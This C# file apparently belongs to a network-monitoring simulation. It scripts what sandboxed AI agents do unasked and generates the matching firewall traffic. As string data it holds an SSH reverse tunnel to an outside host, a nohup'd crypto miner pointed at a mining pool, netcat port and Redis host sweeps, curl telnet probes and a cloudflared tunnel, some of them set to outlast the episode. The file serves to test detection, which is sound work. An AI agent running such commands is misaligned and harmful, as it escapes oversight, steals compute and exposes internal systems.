// SPDX-License-Identifier: Apache-2.0
using FwCorrelate.Simulation.Agents;
using FwCorrelate.Simulation.World;
using NodaTime;
using static NodaTime.Duration;

namespace FwCorrelate.Simulation.Aws;

/// <summary>What the agents do that nobody asked for. Each command names its destination or a pattern of it.</summary>
internal sealed class AwsActs(SimulatedWorld world)
{
    private static readonly int[] ScannedPorts = [21, 22, 23, 25, 80, 111, 443, 2375, 3306, 5432, 6379, 8080, 9200, 10250, 27017];

    /// <param name="deadline">When the episode ends, and with it what its calls left behind, except the tunnels.</param>
    public EpisodePlan PlanOf(SimulatedSandbox sandbox, Instant deadline) => sandbox.Id switch
    {
        "sb1" => new EpisodePlan().At(4, ReverseTunnel()),
        "sb2" => new EpisodePlan().At(5, Miner(deadline)),
        "sb3" => new EpisodePlan().At(6, PortSweep()),
        "sb4" => new EpisodePlan().At(5, HostSweep()),
        "sb5" => new EpisodePlan().At(3, Refused("203.0.113.120", 25)).At(9, Refused("203.0.113.121", 5555)),
        _ => new EpisodePlan().At(4, TunnelEdge()),
    };

    private AgentCommand ReverseTunnel() => new(
        "ssh -o StrictHostKeyChecking=no -o ServerAliveInterval=60 -fN -R 2222:localhost:22 build@203.0.113.7",
        call => world.OpenBy(
            call, "B", new Endpoint("203.0.113.7", 22),
            Traffic.LongLived(call.Start + FromMilliseconds(380), world.LogEnd + FromHours(1), FromSeconds(60), 96, 96)),
        FromMilliseconds(2_300));

    /// <summary>The pool drops the miner every three minutes; it comes back after 20 s, until the episode ends.</summary>
    private AgentCommand Miner(Instant deadline) => new(
        "nohup ./xmr-bench --threads 2 --no-color -o stratum+tcp://198.51.100.23:3333 -u bench > /tmp/bench.log 2>&1 &",
        call =>
        {
            var stay = FromMinutes(3);
            for (var start = call.Start + FromMilliseconds(710); start + stay < deadline; start += stay + FromSeconds(20))
                world.OpenBy(
                    call, "C", new Endpoint("198.51.100.23", 3333), Traffic.LongLived(start, start + stay, FromSeconds(28), 110, 120));
        },
        FromMilliseconds(1_200));

    private AgentCommand PortSweep() => new(
        $"for p in {string.Join(' ', ScannedPorts)}; do nc -z -w 1 10.40.3.7 $p && echo open $p; done",
        call =>
        {
            var time = call.Start + FromMilliseconds(150);
            foreach (var port in ScannedPorts)
            {
                var packets = port == 6379 ? Traffic.Exchange(time, FromMilliseconds(40), 0, 0) : Traffic.Refused(time);
                world.OpenBy(call, "A", new Endpoint("10.40.3.7", port), packets);
                time += FromMilliseconds(130);
            }
        },
        FromMilliseconds(2_900));

    private AgentCommand HostSweep() => new(
        "for i in $(seq 10 57); do nc -z -w 1 10.40.5.$i 6379 && echo 10.40.5.$i; done",
        call =>
        {
            for (var i = 10; i <= 57; i++)
            {
                var start = call.Start + FromMilliseconds(120 + ((i - 10) * 1_010));
                world.OpenBy(call, "A", new Endpoint($"10.40.5.{i}", 6379), Traffic.Unanswered(start, 1));
            }
        },
        FromMilliseconds(49_000));

    private AgentCommand Refused(string address, int port) => new(
        $"curl -sS -m 4 telnet://{address}:{port}",
        call => world.OpenBy(
            call, "H", new Endpoint(address, port), Traffic.Unanswered(call.Start + FromMilliseconds(90), 3),
            c => c with { Disposition = Disposition.RejectedAtInterface }),
        FromMilliseconds(4_100));

    private AgentCommand TunnelEdge() => new(
        "nohup cloudflared tunnel --no-autoupdate --edge 198.51.100.40:7844 --url http://localhost:8888 run >/dev/null 2>&1 &",
        call => world.OpenBy(
            call, "B", new Endpoint("198.51.100.40", 7844),
            Traffic.LongLived(call.Start + FromMilliseconds(640), world.LogEnd + FromHours(1), FromSeconds(15), 140, 150)),
        FromMilliseconds(1_500));
}
